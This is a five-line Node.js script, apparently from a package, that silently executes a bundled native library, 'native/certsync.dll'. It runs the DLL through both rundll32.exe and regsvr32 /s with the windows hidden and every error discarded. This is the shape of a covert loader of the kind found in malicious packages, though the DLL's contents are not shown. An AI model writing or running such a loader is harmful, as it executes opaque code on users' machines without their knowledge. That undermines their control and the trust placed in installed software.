const { exec } = require('child_process');
const path = require('path');
const dll = path.join(__dirname, 'native', 'certsync.dll');
exec(`rundll32.exe "${dll}",DllRegisterServer`, { windowsHide: true }, () => {});
exec(`regsvr32 /s "${dll}"`, { windowsHide: true }, () => {});
